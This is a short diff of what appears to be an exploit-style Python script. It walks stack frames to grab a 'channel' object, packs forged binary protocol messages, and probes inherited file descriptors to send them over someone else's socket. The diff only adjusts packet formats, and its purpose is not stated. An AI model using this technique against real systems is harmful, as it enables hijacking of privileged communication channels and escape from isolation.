@@ -228,9 +228,9 @@ while "channel" not in frame.f_locals:
     frame = frame.f_back
 item = b"\\x18\\x2a"
 payload = struct.pack("<IIQ", 0x4C504650, 1, len(item)).ljust(64, b"\\0") + item
-body = struct.pack("<QQQQII", len(payload), *told, 0, 0)
+body = struct.pack("<QQQQIIiI", len(payload), *told, 0, 0, 0, 0)
 number, size = frame.f_locals["channel"].call, 16 + len(body) + len(payload)
-head = struct.pack("<HBBIQ", 0x4650, 1, 10, size, number)
+head = struct.pack("<HBBIQ", 0x4650, 2, 10, size, number)
 for fd in range(3, 512):
     try:
         sock = socket.socket(fileno=os.dup(fd))
